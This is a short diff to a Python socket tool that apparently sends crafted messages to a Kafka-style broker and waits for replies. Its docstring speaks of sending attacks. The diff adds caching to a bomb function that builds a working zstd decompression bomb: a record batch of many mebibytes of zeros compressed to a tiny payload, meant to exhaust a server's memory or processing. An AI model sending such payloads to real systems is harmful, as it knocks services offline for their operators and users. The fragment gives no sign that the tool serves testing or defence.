@@ -9,6 +9,7 @@ and returns what sends them. What is sent is made beforehand, so that an attack 
 An attack that goes on by itself is sent once; what takes a moment is sent again and again. cap_s: how long after
 its end an answer is waited for.
 """
+import functools
 import json
 import socket
 import struct
@@ -94,7 +95,8 @@ class Line:
         try:
             self.socket.settimeout(max(0.01, timeout_s))
             size, = struct.unpack(">i", self._exactly(4, True))
-            return self._exactly(size, keep) if keep else size
+            body = self._exactly(size, keep)
+            return body if keep else size
         except (OSError, AttributeError):
             self.close()
             return None
@@ -184,10 +186,11 @@ def zigzag(n):
     return messages.varint(n << 1)
 
 
-def bomb(mib, level=19):
+@functools.cache
+def bomb(mib):
     """A batch of one record of so many zeros in zstd: about 1/30,000 of that."""
     body = b"\0\0\0\x01" + zigzag(mib * MIB) + bytes(mib * MIB) + b"\0"
-    packed = zstandard.ZstdCompressor(level=level).compress(zigzag(len(body)) + body)
+    packed = zstandard.ZstdCompressor(level=19).compress(zigzag(len(body)) + body)
     return record_batch(payload=packed, attributes=4, count=1, last_delta=0)
 
 
